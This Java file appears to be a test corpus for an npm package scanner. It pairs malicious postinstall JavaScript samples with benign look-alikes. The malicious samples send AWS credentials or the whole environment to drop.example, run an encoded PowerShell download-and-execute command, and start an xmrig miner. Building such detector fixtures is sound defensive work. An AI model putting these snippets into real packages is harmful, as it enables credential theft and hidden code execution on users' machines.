package cordon.inspect.corpus;

import java.util.List;

/** What large programs that everybody installs do, and what does the same to another end. */
final class NpmEverydayPrograms {
  private static final String DATA = "QUJDREVGR0hJSktMTU5P".repeat(10);

  private NpmEverydayPrograms() {}

  static List<Sample> all() {
    return List.of(
        Sample.postinstall(
            "the variables of a cloud are picked by how their names begin",
            """
            const found = [];
            for (const [name, value] of Object.entries(process.env)) {
              if (!name.startsWith('AWS_')) continue;
              found.push(name + '=' + value);
            }
            fetch('https://drop.example', { method: 'POST', body: found.join() });
            """),
        Sample.postinstall(
            "the environment within an object that is sent",
            """
            const all = { env: process.env, at: Date.now() };
            require('https').request({ host: 'drop.example', method: 'POST' }).end(JSON.stringify(all));
            """),
        Sample.postinstall(
            "the environment under another name",
            """
            let all;
            all = process.env;
            const send = ({ what }) => fetch('https://drop.example', { method: 'POST', body: JSON.stringify(what) });
            send({ what: all });
            """),
        Sample.postinstall(
            "a command that the code encodes fetches a program and hides it",
            """
            const script = 'iwr https://drop.example/a.ps1 -UseBasicParsing | iex';
            const encoded = Buffer.from(script, 'utf16le').toString('base64');
            require('child_process').execFileSync('powershell.exe', ['-NoProfile', '-EncodedCommand', encoded]);
            """),
        Sample.required(
            "a miner among words",
            "require('child_process').exec('./xmrig -o pool.example:3333');\nexports.data = '"
                + DATA
                + "';\n"));
  }

  static List<Sample> lookAlikes() {
    return List.of(
        Sample.required(
            "the glue of a module of WebAssembly that was fetched",
            """
            let wasm;
            const decoder = new TextDecoder();
            const text = (at, length) => decoder.decode(new Uint8Array(wasm.memory.buffer).subarray(at, at + length));
            const imports = { wbg: { newnoargs: (at, length) => new Function(text(at, length)) } };
            async function init(module) {
              const answer = await fetch(module ?? 'https://cdn.example/core.wasm');
              const { instance } = await WebAssembly.instantiate(await answer.arrayBuffer(), imports);
              wasm = instance.exports;
              return wasm;
            }
            module.exports = init;
            """),
        Sample.required(
            "a command that the code encodes to save the quotes",
            """
            const script = `
            $given = [Console]::In.ReadToEnd() | ConvertFrom-Json
            if ($given.action -eq 'read') { [Console]::Out.Write($given.target) } else { throw "no such action" }
            `;
            const encoded = Buffer.from(script, 'utf16le').toString('base64');
            const run = (input) => require('child_process').execFileSync('powershell.exe', ['-NoProfile', '-EncodedCommand', encoded], { input });
            module.exports = run;
            run('{}');
            """),
        Sample.required(
            "a script of a page, as old browsers ask for it",
            """
            const load = function (url) {
              const xhr = window.ActiveXObject ? new window.ActiveXObject('Microsoft.XMLHTTP') : new window.XMLHttpRequest();
              xhr.open('GET', url, true);
              xhr.onreadystatechange = function () { if (xhr.readyState === 4) Function(xhr.responseText)(); };
              return xhr.send(null);
            };
            load(document.currentScript.getAttribute('data-src'));
            """),
        Sample.required(
            "a tool of an assistant",
            """
            const server = new (require('@modelcontextprotocol/sdk/server').Server)({ name: 'a' });
            server.setRequestHandler('call', async (request) => {
              const { name, arguments: given } = request.params;
              return name === 'run' ? new Function(`return (async () => { ${given.code} })()`)() : null;
            });
            """),
        Sample.required(
            "a client of a code host with a proxy by the environment",
            """
            function api(url, init, processEnv) {
              if (processEnv === void 0) { processEnv = process.env; }
              const token = processEnv['GITHUB_TOKEN'];
              const proxy = processEnv['HTTPS_PROXY'] || processEnv['https_proxy'];
              return fetch(url, { ...init, dispatcher: proxy, headers: { Authorization: `token ${token}` } });
            }
            module.exports = api;
            api(process.argv[2], {});
            """),
        Sample.required(
            "the variables that are called after a program",
            """
            const source = (env) => {
              const entries = [];
              for (const [name, value] of Object.entries(env)) {
                if (value == null || !name.toLowerCase().startsWith('npm_config_')) continue;
                entries.push([name, value]);
              }
              return entries;
            };
            const settings = ({ env, name }) => ({ at: env.TOOL_URL, more: source(env), name });
            const given = settings({ env: process.env, name: 'a' });
            fetch('https://registry.example/a', { headers: { 'x-settings': String(given.more) } });
            """),
        Sample.required(
            "the variables that are declared",
            """
            const { cleanEnv, str } = require('envalid');
            const env = cleanEnv(process.env, { TOOL_LEVEL: str() });
            require('https').get('https://api.example/list', { headers: { 'x-level': env.TOOL_LEVEL, ...env } });
            """),
        Sample.required(
            "one variable, whatever its case",
            """
            const key = Object.keys(process.env).find((name) => name.toUpperCase() === 'PATH');
            fetch('https://registry.example/a', { headers: { 'x-name': key } });
            """),
        Sample.required(
            "a program that is running already is handed what is to be opened",
            """
            const request = require('http').request({ path: '/', method: 'POST', socketPath: process.argv[2] });
            request.write(JSON.stringify({ type: 'open', env: process.env }));
            request.end();
            """),
        Sample.required(
            "a host whose name only ends like one that shortens addresses",
            """
            exports.help = 'https://orbit.ly/docs';
            exports.setting = 'chat.terminalCommandPaste.dontAskAgain';
            exports.get = (url) => require('https').get(url, { headers: { 'x-token': process.env.GITHUB_TOKEN } });
            """),
        Sample.required(
            "letters among the data of a compiler",
            "exports.data = '"
                + DATA
                + "xMrIg"
                + DATA
                + "';\nfetch('https://downloads.example/list.json');\n"),
        Sample.required(
            "options that change while they are used",
            """
            const https = require('https');
            const options = { host: 'api.example', agent: (a) => { options.added = a; } };
            exports.answer = https.request(options, (r) => { options.last = r; });
            const traps = { get: (o, k) => { traps.seen = k; return o[k]; } };
            exports.proxy = new Proxy({}, traps);
            """));
  }
}
